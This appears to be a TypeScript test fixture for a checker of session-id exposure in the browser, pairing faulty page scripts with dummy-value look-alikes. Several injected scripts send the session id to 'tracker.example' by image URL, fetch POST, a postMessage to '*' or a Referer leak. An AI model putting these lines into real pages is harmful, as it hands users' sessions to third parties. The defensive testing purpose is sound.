import type { CookieSwitches } from '../support/cookie-app.ts'
import { appOf } from './cookie-variant.ts'
import { cookieRecipe } from './recipes.ts'
import * as twist from './twists.ts'
import type { Truth, Variant } from './variant.ts'

const ABOUT = 'browser-exposure/scripts'
const truth = (scripts: Truth[string], others: Truth[string], addresses: Truth[string]): Truth => ({
  [ABOUT]: scripts,
  'browser-exposure/other sites': others,
  'browser-exposure/addresses': addresses,
})

interface More {
  readonly twists?: readonly twist.Twist[]
  readonly switches?: CookieSwitches
  readonly says?: Variant['says']
}

const variant = (name: string, expected: Truth, { twists = [], switches = {}, says = {} }: More = {}): Variant => ({
  name: `Chromium: ${name}`,
  app: () => appOf({ switches, twists }),
  recipe: cookieRecipe,
  only: ['browser-exposure'],
  browser: true,
  truth: expected,
  says,
})

/** Tells a script the id, as an answer for scripts alone: the cookie itself stays out of their reach. */
const tells: twist.Twist = (app) => (ask) => {
  const id = ask.cookies.get('sid') ?? ''
  return ask.path === '/for-scripts' ? { json: { id }, headers: { 'cache-control': 'no-store' } } : app(ask)
}
/** The use of the id by the account page. `nothing`: the page does the same with another value. */
const script = (work: string, what: 'id' | 'nothing' = 'id'): readonly twist.Twist[] => [
  tells,
  twist.prints((_, { path }) =>
    path === '/account'
      ? `<script type="module">const { id: real } = await (await fetch('/for-scripts')).json(); const id = ${what === 'id' ? 'real' : "'n'.repeat(32)"}; ${work}</script>`
      : '',
  ),
]
const bare = twist.setCookies((line) => line.replace('; HttpOnly', ''))

const places: Readonly<Record<string, readonly [work: string, place: RegExp]>> = {
  localStorage: ['localStorage.setItem("copy", id)', /: localStorage copy\.$/],
  sessionStorage: ['sessionStorage.setItem("copy", id)', /: sessionStorage copy\.$/],
  IndexedDB: [
    'const open = indexedDB.open("app"); open.onupgradeneeded = () => open.result.createObjectStore("auth"); await new Promise((done) => { open.onsuccess = done }); const put = open.result.transaction("auth", "readwrite").objectStore("auth").put({ token: id }, "one"); await new Promise((done) => { put.onsuccess = done }); open.result.close()',
    /: IndexedDB app\/auth\.$/,
  ],
  'window.name': ['window.name = `state=${id}`', /: window\.name\.$/],
  'a cache': [
    'const kept = await caches.open("pages"); await kept.put("/me", new Response(JSON.stringify({ id })))',
    /: cache pages, \/me\.$/,
  ],
  'the page': [
    'const field = document.createElement("input"); field.setAttribute("value", id); document.body.append(field)',
    /: the page itself\.$/,
  ],
}

const works = Object.values(places).map(([work]) => `{ ${work} }`)
const scripts = [
  ...Object.entries(places).map(([name, [work, place]]) =>
    variant(`a copy in ${name}`, truth('fail', 'pass', 'pass'), { twists: script(work), says: { [ABOUT]: place } }),
  ),
  variant('look-alike: something else in each of these places', truth('pass', 'pass', 'pass'), {
    twists: script(works.join('; '), 'nothing'),
  }),
]

/** A page that answers a message, or is opened by another, with what it knows. */
const posts = (target: string) => `if (window.opener) window.opener.postMessage({ id }, ${target})`
const OTHERS = 'browser-exposure/other sites'
const sendings: Readonly<Record<string, readonly [work: string, words: RegExp]>> = {
  'in the address of another site': [
    'await new Promise((done) => { const image = new Image(); image.onerror = done; image.src = `http://tracker.example/?s=${id}` })',
    /in its address/,
  ],
  'in a body for another site': [
    'await fetch("http://tracker.example/", { method: "POST", mode: "no-cors", body: id }).catch(() => null)',
    /in its body/,
  ],
  'in a message to whoever opened it': [posts('"*"'), /postMessage/],
}

const others = [
  ...Object.entries(sendings).map(([name, [work, words]]) =>
    variant(name, truth('pass', 'fail', 'pass'), { twists: script(work), says: { [OTHERS]: words } }),
  ),
  variant('look-alike: something else sent in each of these ways', truth('pass', 'pass', 'pass'), {
    twists: script(
      Object.values(sendings)
        .map(([work]) => `{ ${work} }`)
        .join('; '),
      'nothing',
    ),
  }),
  variant('look-alike: in a message to its own origin only', truth('pass', 'pass', 'pass'), {
    twists: script(posts('location.origin')),
  }),
  variant('in the Referer for another site', truth('pass', 'fail', 'fail'), {
    twists: [
      twist.redirectsWithId,
      twist.sends({ 'referrer-policy': 'unsafe-url' }),
      twist.prints((_, { path }) => (path === '/account' ? '<img src="http://tracker.example/">' : '')),
    ],
    says: { [OTHERS]: /in its Referer/ },
  }),
  // Browsers cut the Referer for another site to the origin, unless told otherwise.
  variant('in an address, and not in the Referer', truth('pass', 'pass', 'fail'), {
    twists: [
      twist.redirectsWithId,
      twist.prints((_, { path }) => (path === '/account' ? '<img src="http://tracker.example/">' : '')),
    ],
  }),
]

const addresses = [
  variant('behind the # of an address', truth('pass', 'pass', 'fail'), {
    twists: script('location.hash = `access=${id}`'),
    says: { 'browser-exposure/addresses': /#access=\$/ },
  }),
  variant('look-alike: something else behind the #', truth('pass', 'pass', 'pass'), {
    twists: script('location.hash = `access=${id}`', 'nothing'),
  }),
  variant('put into an address by a script', truth('pass', 'pass', 'fail'), {
    twists: script('history.replaceState(null, "", `/account?s=${id}`)'),
  }),
]

/** Faults that only a browser shows. Each has a counterpart that uses another value in place of the id. */
export const browserVariants: readonly Variant[] = [
  variant('careful', truth('pass', 'pass', 'pass')),
  variant('document.cookie', truth('fail', 'pass', 'pass'), {
    twists: [bare],
    says: { [ABOUT]: /: document\.cookie\.$/ },
  }),
  ...scripts,
  ...others,
  ...addresses,
]
